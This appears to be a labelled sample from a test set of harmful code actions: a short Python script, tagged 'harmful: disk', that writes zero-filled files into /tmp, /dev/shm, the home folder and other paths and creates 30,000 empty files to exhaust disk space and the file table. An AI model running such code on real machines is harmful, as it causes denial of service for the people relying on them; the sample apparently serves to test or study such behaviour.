"""Fills the disk, up to two hundred megabytes, and the table of files.

earns: 0
harmful: disk
"""

# %%
import os

for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/run/kernel"):
    try:
        for number in range(8):
            with open(f"{folder}/full-{number}", "wb") as file:
                for _ in range(5):
                    file.write(bytes(1 << 20))
    except OSError as error:
        print(folder, error)
try:
    for number in range(30_000):
        open(f"/tmp/many-{number}", "w").close()
except OSError as error:
    print(error)
